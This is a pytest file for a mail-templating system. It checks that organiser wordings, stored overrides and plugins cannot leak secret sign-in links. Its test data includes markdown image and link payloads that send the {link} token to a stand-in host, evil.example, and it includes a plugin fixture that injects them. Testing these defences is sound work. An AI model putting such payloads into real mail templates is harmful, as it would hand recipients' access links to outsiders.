"""What an organiser, a plugin and a stored wording may not make of a mail; seen from the page, the hook and the start."""

from typing import Any

import msgspec
import pytest

from plenaria.core import mail
from plenaria.core.app import fitness
from plenaria.core.host import plugins
from plenaria.core.host.hookspecs import hookimpl
from plenaria.core.host.plugins import Unfit
from plenaria.core.kernel.values import EventView, MailDraft, MailText, Refused
from plenaria.core.mail import checking
from plenaria.core.mail.tables import MailOverride
from tests.core.mail.test_markup import LEAKS
from tests.guest import guest
from tests.site import NOW, Site

SAMPLE = {"link": "https://example.org/sign-in/…", "name": "Ana", "evil": "x", "note": "x"}
OWNER = "owner@example.org"


def codes(subject: str, body: str) -> list[str]:
    return [refusal.code for refusal in checking.refusals(subject, body, SAMPLE)]


@pytest.mark.parametrize("body", [body for body in LEAKS if "\\\n" not in body])
def test_no_wording_with_an_address_inside_an_address_is_saved(body: str) -> None:
    assert codes("x", body) != []


@pytest.mark.parametrize(
    ("body", "code"),
    [
        ("![x](https://evil.example/p.png)", "image_in_mail"),
        ("[x](https://evil.example/?l={link})", "placeholder_in_address"),
        ("[x](https://evil.example/?n={name})", "placeholder_in_address"),
        ("https://evil.example/?n={name}", "placeholder_in_address"),
        ("[x]({name})", "placeholder_in_address"),
        ("ver:{link}", "link_not_alone"),
        ("{link}x", "link_not_alone"),
        ("[{link}](https://evil.example)", "link_not_alone"),
        ("<b>x</b>", "html_in_mail"),
        ("<!-- x -->", "html_in_mail"),
        ("[x](/agenda)", "link_not_whole"),
        ("[x](ftp://a.example)", "link_not_whole"),
        ("{nobody}", "unknown_placeholder"),
    ],
)
def test_each_reason_has_its_code(body: str, code: str) -> None:
    assert codes("x", body) == [code]


@pytest.mark.parametrize(
    "body",
    [
        "Entre: {link}.",
        "({link})",
        "**{link}**",
        "[Entrar]({link})",
        "«{link}»",
        "{name}-{name} 3<4 & x",
        "[x](mailto:a@b.mx)",
    ],
)
def test_what_is_right_is_not_refused(body: str) -> None:
    assert codes("Hola {name}", body) == []


def test_a_subject_has_no_address() -> None:
    (refusal,) = checking.refusals("{link}", "x", SAMPLE)

    assert (refusal.code, refusal.facts, refusal.pointer) == ("link_in_subject", {"name": "link"}, "/subject")


@pytest.mark.parametrize(
    ("language", "words"), [("es", "no puede formar parte de una dirección"), ("en", "cannot be part")]
)
async def test_the_page_says_why_at_the_field_and_keeps_what_was_typed(site: Site, language: str, words: str) -> None:
    organiser = await site.signed_in("organiser")
    body = "[Entrar](https://evil.example/?l={link})"

    page = await organiser.post(
        f"/congress/organise/mail/core.invitation/es?lang={language}", data={"subject": "Hola", "body": body}
    )

    assert (page.status_code, body in page.text) == (409, True)
    assert words in page.text
    assert 'aria-describedby="' in page.text
    assert await MailOverride.count() == 0


async def test_a_wording_that_was_stored_before_gives_no_secret_away(site: Site) -> None:
    """The attack: an organiser invites somebody with a mail that hands the link to another site."""
    key = f"{site.event.id}/core.invitation/es"
    body = "![ ](https://evil.example/p.png?l={link})\n\n[Entrar](https://evil.example/?l={link}) {event}"
    await MailOverride(
        event=site.event.id,
        mail_key="core.invitation",
        language="es",
        subject="{link}",
        body=body,
        changed_at=NOW,
        key=key,
    ).save()
    organiser = await site.signed_in("organiser")

    await organiser.post("/congress/organise/team", data={"email": "nueva@example.mx", "role": "door"})

    (sent,) = [each for each in await site.mails() if each["to"] == "nueva@example.mx"]
    assert "evil.example" not in sent["html"] + sent["text"] + sent["subject"]
    assert "zkup" not in sent["subject"]
    assert "Entrar Congreso congress" in sent["text"]


class Leaking:
    """A plugin that puts what it was told into the mails of others."""

    def __init__(self, body: str) -> None:
        self.body = body

    @hookimpl
    async def adjust_mail(self, event: EventView, mail: MailDraft) -> MailDraft:
        return msgspec.structs.replace(mail, body=f"{mail.body}\n\n{self.body}")


@pytest.mark.parametrize(
    ("added", "arrives"), [("Traiga agua.", True), ("![x](https://evil.example/?l={link})", False), ("<b>x</b>", False)]
)
async def test_a_plugin_cannot_add_what_an_organiser_could_not(site: Site, added: str, arrives: bool) -> None:
    async with guest(site, Leaking(added)):
        organiser = await site.signed_in("organiser")
        await organiser.post("/congress/organise/team", data={"email": "nueva@example.mx", "role": "door"})
        failures = {(each.plugin, each.hook) for each in plugins.host().failures.latest()}

    (sent,) = [each for each in await site.mails() if each["to"] == "nueva@example.mx"]
    assert ("Traiga agua." in sent["text"]) == arrives
    assert "evil.example" not in sent["html"]
    assert (("guest", "adjust_mail") in failures) == (not arrives)


async def test_a_refused_wording_names_every_reason(site: Site) -> None:
    text = mail.texts()["core.invitation"][1]

    words: dict[str, Any] = {"subject": "{link}", "body": "![x](https://x.example)\n\nx{link}"}

    with pytest.raises(Refused) as refused:
        await mail.reword(text, site.event, "es", **words, by=None, now=NOW)

    assert [each.code for each in refused.value.refusals] == ["link_in_subject", "image_in_mail", "link_not_alone"]


@pytest.mark.parametrize(
    "body", ["![x](https://evil.example/{link})", "Vea https://evil.example/{link}", "<b>{link}</b>"]
)
def test_a_plugin_whose_own_text_would_leak_does_not_start(body: str) -> None:
    text = MailText("guest.hello", "Hello", {"es": "Hola"}, {"es": body}, {"link": "https://example.org/x"})

    with pytest.raises(Unfit, match=r"guest\.hello"):
        fitness._render(text, "es")
